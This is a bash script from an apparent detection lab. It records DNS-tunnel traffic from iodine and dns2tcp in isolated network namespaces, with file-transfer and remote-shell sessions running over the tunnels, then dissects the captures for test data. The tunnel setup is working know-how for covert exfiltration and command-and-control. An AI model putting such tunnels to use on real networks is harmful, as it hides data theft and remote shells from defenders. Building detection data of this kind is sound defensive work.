#!/usr/bin/env bash
# Records iodine (NULL, TXT, CNAME, A) and dns2tcp (TXT, KEY) for test/evaluation, each in a pair of network namespaces of its own.
# Usage: record_variants.sh [SECONDS]   (as root; default 100 seconds of traffic; see README.md). The sample is not touched.
set -euo pipefail

seconds=${1:-100}
lab=$(cd "$(dirname "$0")" && pwd)
programs=$lab/programs
work=$(mktemp -d)
node=$lab/../../node_modules/.bin/node
limit=$((seconds + 90))
variants=(iodine_null iodine_txt iodine_cname iodine_a dns2tcp_txt dns2tcp_key)

fail() { echo "record_variants.sh: $*" >&2; exit 1; }
[ "$(id -u)" -eq 0 ] || fail "network namespaces need root"
[ -c /dev/net/tun ] || fail "/dev/net/tun is missing: iodine needs it"
[ -x "$node" ] || fail "node_modules is missing: run npm install first"
export PATH=$PATH:/usr/sbin:/sbin
for tool in ip iodine iodined dns2tcpc dns2tcpd tcpdump tshark python3; do
  command -v "$tool" >/dev/null || fail "missing: $tool (apt-get install iodine dns2tcp tcpdump tshark iproute2 python3)"
done
! ip netns list | grep -q '^aqvar-' || fail "aqvar- namespaces exist: another recording runs, or one was killed"

started=()
tear_down() {
  local pid index side
  for pid in "${started[@]}"; do kill "$pid" 2>/dev/null || true; done
  for index in "${!variants[@]}"; do
    for side in client server; do
      ip netns pids "aqvar-$index-$side" 2>/dev/null | xargs -r kill 2>/dev/null || true
      ip netns delete "aqvar-$index-$side" 2>/dev/null || true
    done
  done
  rm -rf "$work"
}
trap tear_down EXIT

run_in() { # run_in INDEX-SIDE COMMAND...: in the background, bounded in time
  local where=$1
  shift
  timeout "$limit" ip netns exec "aqvar-$where" "$@" >>"$work/$where.log" 2>&1 &
  started+=($!)
}

wait_for() { # wait_for WHAT COMMAND...
  local what=$1 turn
  shift
  for turn in $(seq 200); do "$@" >/dev/null 2>&1 && return 0; sleep 0.2; done
  cat "$work"/*.log >&2
  fail "$what did not come up"
}

make_pair() { # make_pair INDEX: client 10.20.31.2, server 10.20.31.1
  ip netns add "aqvar-$1-client"
  ip netns add "aqvar-$1-server"
  ip link add "aqvar${1}c" netns "aqvar-$1-client" type veth peer name "aqvar${1}s" netns "aqvar-$1-server"
  ip -n "aqvar-$1-client" address add 10.20.31.2/24 dev "aqvar${1}c"
  ip -n "aqvar-$1-server" address add 10.20.31.1/24 dev "aqvar${1}s"
  ip -n "aqvar-$1-client" link set lo up && ip -n "aqvar-$1-client" link set "aqvar${1}c" up
  ip -n "aqvar-$1-server" link set lo up && ip -n "aqvar-$1-server" link set "aqvar${1}s" up
  ip netns exec "aqvar-$1-client" sysctl -q -w net.ipv4.ip_local_port_range='49152 65535'
}

for index in "${!variants[@]}"; do
  variant=${variants[$index]}
  type=${variant#*_}
  make_pair "$index"
  run_in "$index-client" tcpdump -q -U -s 0 -Z root -i "aqvar${index}c" -w "$work/$variant.pcap" 'udp port 53'
  wait_for "tcpdump $variant" test -e "$work/$variant.pcap"
  if [ "${variant%_*}" = iodine ]; then
    run_in "$index-server" iodined -f -c -P afterquery-lab -p 5353 "10.9$index.0.1/27" t.upd-cache.example.net
    wait_for "iodined $variant" ip netns exec "aqvar-$index-server" bash -c "ip -4 addr | grep -q 10.9$index.0.1"
    run_in "$index-server" python3 "$programs/delay_relay.py" 10.20.31.1 53 127.0.0.1 5353 38
    run_in "$index-server" python3 "$programs/files_over_tunnel.py" store "10.9$index.0.1" 8080
    run_in "$index-client" iodine -f -r -T "${type^^}" -P afterquery-lab 10.20.31.1 t.upd-cache.example.net
  else
    mkdir -p "$work/empty$index"
    printf 'listen = 127.0.0.1\nport = 5353\nuser = nobody\nchroot = %s\ndomain = r.telemetry-hub.example.org\nresources = shell:127.0.0.1:9000\n' \
      "$work/empty$index" >"$work/dns2tcpd$index.conf"
    run_in "$index-server" python3 "$programs/shell_over_tunnel.py" operator 9000 "$seconds"
    run_in "$index-server" dns2tcpd -F -d 1 -f "$work/dns2tcpd$index.conf"
    run_in "$index-server" python3 "$programs/delay_relay.py" 10.20.31.1 53 127.0.0.1 5353 46
    sleep 0.5
    run_in "$index-client" dns2tcpc -z r.telemetry-hub.example.org -r shell -l 4430 -T "${type^^}" 10.20.31.1
  fi
done
for index in "${!variants[@]}"; do
  if [ "${variants[$index]%_*}" = iodine ]; then
    wait_for "${variants[$index]}" ip netns exec "aqvar-$index-client" bash -c "ip -4 addr | grep -q 10.9$index.0."
    run_in "$index-client" python3 "$programs/files_over_tunnel.py" client "10.9$index.0.1" 8080 "$seconds"
  else
    wait_for "${variants[$index]}" ip netns exec "aqvar-$index-client" bash -c 'ss -ltn | grep -q :4430'
    run_in "$index-client" python3 "$programs/shell_over_tunnel.py" agent 4430
  fi
done
echo "recording $seconds s of traffic ..." >&2
sleep "$seconds"
for index in "${!variants[@]}"; do
  for pid in $(ip netns pids "aqvar-$index-client"); do
    [ "$(cat "/proc/$pid/comm" 2>/dev/null)" = tcpdump ] && kill -INT "$pid"
  done
done
sleep 1
for variant in "${variants[@]}"; do
  tshark -r "$work/$variant.pcap" -Y 'udp.port == 53' -T fields -E separator=/t -E occurrence=f -e frame.time_epoch \
    -e ip.src -e udp.srcport -e ip.dst -e udp.dstport -e dns.id -e dns.qry.type -e udp.payload >"$work/$variant.tsv" 2>/dev/null
done
"$node" "$lab/dissect_variants.ts" "$work" "$lab/recorded" "${variants[@]}"
